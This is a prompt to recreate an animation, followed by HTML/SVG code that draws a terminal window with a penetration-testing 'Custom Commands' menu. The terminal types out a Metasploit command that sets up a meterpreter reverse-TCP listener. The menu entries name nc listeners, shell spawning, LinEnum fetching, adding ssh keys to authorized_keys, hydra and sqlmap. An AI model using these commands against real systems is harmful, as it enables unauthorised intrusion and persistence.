
Recreate the animation shown at these times as an HTML page. Size 710 by 788 pixels, loop 8 s.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal custom commands</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #1f1e22; }
svg { display: block; width: 710px; height: 788px; }
text { white-space: pre; text-rendering: geometricPrecision; }
.ui { font: 8.2px "Noto Sans", "Open Sans", sans-serif; letter-spacing: -.27px; fill: #e9ecec; }
.bar { font-weight: 500; fill: #fff; }
.off { fill: #7b8281; }
.term { font: 8.47px "DejaVu Sans Mono", monospace; fill: #27963f; }
.panel { fill: #242d2c; stroke: #1d2726; stroke-width: .6; }
.hl { fill: #2560a0; }

/* one loop is 8 s, so 100 ms is 1.25% */
.a { animation: 8s step-end infinite; }
.focus { animation-name: focus; }
.blur { animation-name: blur; }
.menu { animation-name: menu; }
.sub { animation-name: sub; }
.pick { animation-name: pick; }
.subpick { animation-name: subpick; }
.arrow { animation-name: arrow; }
.beam { animation-name: beam; }
.before { animation-name: before; }
.after { animation-name: after; }
.blink { animation-name: blink; }

@keyframes focus { 0% { opacity: 1 } 5% { opacity: 0 } 62.5%, 100% { opacity: 1 } }
@keyframes blur { 0% { opacity: 0 } 5% { opacity: 1 } 62.5%, 100% { opacity: 0 } }
@keyframes before { 0% { opacity: 1 } 5%, 100% { opacity: 0 } }
@keyframes after { 0% { opacity: 0 } 62.5%, 100% { opacity: 1 } }
@keyframes blink { 0% { opacity: 1 } 71.25% { opacity: 0 } 78.75% { opacity: 1 } 86.25% { opacity: 0 } 93.75%, 100% { opacity: 1 } }
@keyframes menu {
  0% { opacity: 0 } 5% { opacity: .35 } 6.25% { opacity: .8 } 7.5% { opacity: 1 }
  61.25% { opacity: .5 } 62.5% { opacity: .15 } 63.75%, 100% { opacity: 0 }
}
@keyframes sub {
  0% { opacity: 0 } 21.25% { opacity: .35 } 22.5% { opacity: .8 } 23.75% { opacity: 1 }
  61.25% { opacity: .5 } 62.5% { opacity: .15 } 63.75%, 100% { opacity: 0 }
}
@keyframes pick {
  0% { opacity: 0; transform: none }
  10% { opacity: 1; transform: translateY(16.1px) }
  11.25% { opacity: 1; transform: translateY(48.2px) }
  12.5% { opacity: 0; transform: none }
  15% { opacity: 1; transform: translateY(128.7px) }
  16.25% { opacity: 1; transform: translateY(160.8px) }
  17.5% { opacity: 1; transform: translateY(176.9px) }
  20%, 100% { opacity: 1; transform: translateY(193px) }
}
@keyframes subpick {
  0% { opacity: 0; transform: translateY(79.5px) }
  41.25% { opacity: 1; transform: translateY(79.5px) }
  47.5% { opacity: 1; transform: translateY(95.4px) }
  55% { opacity: 1; transform: translateY(79.5px) }
  56.25%, 100% { opacity: 1; transform: translateY(95.4px) }
}
@keyframes arrow {
  0% { opacity: 0; transform: translate(242px, 300px) }
  5% { opacity: 1; transform: translate(242px, 300px) }
  10% { opacity: 1; transform: translate(248px, 318px) }
  11.25% { opacity: 1; transform: translate(256px, 355px) }
  12.5% { opacity: 1; transform: translate(264px, 393px) }
  15% { opacity: 1; transform: translate(271px, 428px) }
  16.25% { opacity: 1; transform: translate(278px, 456px) }
  17.5% { opacity: 1; transform: translate(287px, 477px) }
  20% { opacity: 1; transform: translate(297px, 499px) }
  36.25% { opacity: 1; transform: translate(297px, 499px); animation-timing-function: steps(7) }
  45% { opacity: 1; transform: translate(405px, 539px) }
  50% { opacity: 1; transform: translate(407px, 535px) }
  56.25% { opacity: 1; transform: translate(410px, 541px) }
  57.5% { opacity: 1; transform: translate(413px, 546px) }
  61.25%, 100% { opacity: 0; transform: translate(413px, 546px) }
}
@keyframes beam {
  0% { opacity: 1; transform: translate(242px, 301px) }
  5% { opacity: 0; transform: translate(242px, 301px) }
  61.25% { opacity: 1; transform: translate(415px, 552px) }
  76.25% { opacity: 1; transform: translate(415px, 552px); animation-timing-function: steps(9) }
  87.5% { opacity: 1; transform: translate(343px, 424.5px) }
  88.75% { opacity: 1; transform: translate(339px, 423.5px) }
  91.25% { opacity: 1; transform: translate(338px, 422px) }
  92.5% { opacity: 1; transform: translate(336px, 420px) }
  93.75%, 100% { opacity: 1; transform: translate(335px, 419px) }
}
</style>
</head>
<body>
<svg viewBox="0 0 710 788">
  <rect width="710" height="788" fill="#2f393b"/>
  <rect x="1.5" y="10" width="707" height="764" fill="#1f1e22"/>
  <rect x="115.2" y="153" width="481" height="481" fill="#262627" transform="rotate(45 355.7 393.5)"/>

  <g id="menubar" class="ui bar"></g>

  <g class="a blur">
    <rect x="1.5" y="10" width="707.5" height="11" fill="#2b2b2f"/>
    <path d="M4.5 13h2.6v2.4H4.5zM8 13h2.6v2.4H8zM4.5 16h2.6v2.4H4.5z" fill="#e4e4e4"/>
    <text class="ui" x="362" y="18" text-anchor="middle" style="fill:#5d5d60">/bin/bash 137x73</text>
  </g>
  <g class="a focus">
    <rect x="1.5" y="10" width="707.5" height="11" fill="#51aa0c"/>
    <rect x="4" y="11.5" width="8" height="8" fill="#191c22"/>
    <path d="M5 12.5h2.8v2.6H5z" fill="#d23b2d"/>
    <path d="M8.6 12.5h2.6v2.6H8.6zM5 16h2.8v2.6H5z" fill="#3f62b8"/>
    <text class="ui" x="362" y="18" text-anchor="middle" style="fill:#f4f8ef">/bin/bash 137x73</text>
  </g>

  <rect x="703" y="21" width="5.5" height="753" fill="#2b3032"/>
  <rect x="703.8" y="22.5" width="3.2" height="750" rx="1.6" fill="#a3a5a3"/>

  <text class="term" x="2" y="29.6"><tspan fill="#4a48dc">demo</tspan><tspan fill="#a5c72c">@</tspan><tspan fill="#4fa848">~</tspan><tspan fill="#d8472b">#</tspan></text>
  <rect class="a before" x="43" y="22" width="5.2" height="10" fill="#23964a"/>
  <g class="a blur"><rect x="43.2" y="22.2" width="5" height="9.7" fill="none" stroke="#23964a" stroke-width=".9"/></g>
  <g class="a after">
    <text class="term" x="42.8" y="29.6">msfconsole -x "use exploit/multi/handler; set payload windows/meterpreter/reverse_tcp; set lhost 10.0.0.5; set lport 443; exploit</text>
    <text class="term" x="2" y="40">"</text>
    <rect class="a blink" x="2.2" y="42.3" width="5.3" height="10" fill="#23964a"/>
  </g>

  <g class="a menu">
    <rect class="panel" x="238.5" y="295.3" width="118" height="210.7"/>
    <rect class="hl a pick" x="238.5" y="296.2" width="118" height="16"/>
    <path d="M243 332.5h8v3.4h-8zM243 336.9h8v3.4h-8zM243 348.3h3.5v8h-3.5zM247.5 348.3h3.5v8h-3.5z" fill="#060808"/>
    <rect x="242.7" y="429" width="8" height="8" rx="1" fill="#1d2524" stroke="#e9ecec" stroke-width=".9"/>
    <path d="M244.4 432.8l2 2.2 4.4-5.2" fill="none" stroke="#fff" stroke-width="1.3"/>
    <g id="main"></g>
  </g>
  <g class="a sub">
    <rect class="panel" x="355.5" y="439" width="184" height="340"/>
    <rect class="hl a subpick" x="355.5" y="440" width="184" height="15.8"/>
    <g id="custom"></g>
  </g>

  <rect y="774" width="710" height="14" fill="#2f393b"/>
  <g id="tray" transform="translate(0 781.5)" stroke-width=".8">
    <g transform="translate(549)">
      <rect x="-3.5" y="-3.5" width="7" height="7" rx="1" fill="#3f7fbd" stroke="#cfe2f2"/>
      <circle r="1.7" fill="#e8f2fa"/>
      <path class="a after" d="M-.5 0h4.5v4h-4.5z" fill="#4fbd4a"/>
    </g>
    <g transform="translate(560)"><circle r="3.6" fill="#747d80" stroke="#98a1a4"/><circle r="1.2" fill="#343e40"/></g>
    <g transform="translate(571)"><path d="M-3-3.5v7M-2-3l3 2.5-3 2.5z" fill="#79b4e8" stroke="#4c8cc8"/><path d="M1-1h3v4H1z" fill="#3770a8"/></g>
    <g transform="translate(582)" fill="#3d7fc0" stroke="#c5dcf0"><path d="M-1-3.5h4.5v4H-1z"/><path d="M-3.5-.5H1v4h-4.5z"/></g>
    <g transform="translate(593)"><path d="M-3 3l5.5-5.5" stroke="#dcebf6" stroke-width="2.6"/><path d="M-3.8 3.8l2-2" stroke="#5c9bd0" stroke-width="2"/></g>
    <g transform="translate(603)"><path d="M-3.5-2.5h3l1 1h3v4.5h-7z" fill="#636b6c" stroke="#7c8586"/></g>
    <g transform="translate(614)"><rect x="-3.5" y="-3.5" width="7" height="5.5" rx=".8" fill="#4b94dd" stroke="#b6d6f2"/><path d="M-2 3.5h4" stroke="#b6d6f2"/></g>
    <g transform="translate(625)" fill="#2f6cae" stroke="#a9cdec"><path d="M-1.5-3.5h5v5h-5z"/><path d="M-3.5-1h4.5v4.5h-4.5z"/></g>
    <g transform="translate(635.3)"><rect x="-3.2" y="-3.5" width="6.4" height="7" rx="1" fill="#e3ebf3" stroke="#6686b0"/><path d="M-1.2-1.5h2.4v3h-2.4z" fill="#3d62a0"/></g>
    <g transform="translate(646.3)"><circle r="3" fill="#d5e8d3" stroke="#4d9c55"/><path d="M-3 1l3-4v2.5h3.4L0 4V1z" fill="#4bb04b"/></g>
    <g transform="translate(657)"><rect x="-3.5" y="-3.5" width="7" height="7" rx="1.2" fill="#4ba63f" stroke="#a6dc9a"/><path d="M0-2v4M-1.7.4L0 2l1.7-1.6" fill="none" stroke="#fff" stroke-width="1.1"/></g>
  </g>
  <text class="ui bar" x="663.5" y="784.6">Right Ctrl</text>

  <g class="a arrow"><path d="M0 0v9.2l2.2-2 1.5 3.4 1.7-.8-1.5-3.2h3z" fill="#111" stroke="#f1f1f1" stroke-width=".8"/></g>
  <g class="a beam" fill="none">
    <path d="M-2.6-5h5.2M-2.6 5h5.2M0-5v10" stroke="#111" stroke-width="2.2"/>
    <path d="M-2.6-5h5.2M-2.6 5h5.2M0-5v10" stroke="#d5d5d5" stroke-width="1.1"/>
  </g>
</svg>
<script>
const $ = id => document.getElementById(id);

function add(parent, tag, attrs, text = '') {
  const el = document.createElementNS(parent.namespaceURI, tag);
  for (const k in attrs) el.setAttribute(k, attrs[k]);
  el.textContent = text;
  parent.append(el);
}

// "-" before a label disables it, ">" after it marks a submenu
function fillMenu(id, x, y, pitch, arrowX, labels) {
  labels.split('|').forEach((label, i) => {
    const mid = y + i * pitch;
    const cls = label[0] === '-' ? 'ui off' : 'ui';
    add($(id), 'text', { x, y: mid + 2.9, class: cls }, label.replace(/^-|>$/g, ''));
    if (label.endsWith('>'))
      add($(id), 'path', { d: `M${arrowX} ${mid - 2.7}l3.2 2.7-3.2 2.7z`, fill: '#f2f4f4' });
  });
}

[['File', 4], ['Machine', 26], ['View', 66], ['Input', 93.5], ['Devices', 122], ['Help', 160]]
  .forEach(([name, x]) => add($('menubar'), 'text', { x, y: 5 }, name));

fillMenu('main', 254.7, 304.2, 16.08, 347.2,
  '-Copy|Paste|Split Horizontally|Split Vertically|Open Tab|Close|-Zoom terminal|-Maximize terminal|' +
  'Show scrollbar|Preferences|Profiles>|Encodings>|Custom Commands>');

fillMenu('custom', 372.7, 447.7, 15.9, 530.2,
  'Preferences|http server in current dir|http server in demo-tools|ftp server|tftp server|nc listener 443|' +
  'multihandler listener: meterpreter|spawn python shell|interactive stty|' +
  'curl launch LinEnum.sh. Results in www|wget launch LinEnum.sh. Results in www|' +
  'tar current dir and move to tmp:sunlight|include ssh key to authorized_keys|' +
  'Linux>|Mirvano>|Upload>|hydra>|hashcat>|wfuzz - directory traversal|Exploit>|sqlmap post request');
</script>
</body>
</html>
```
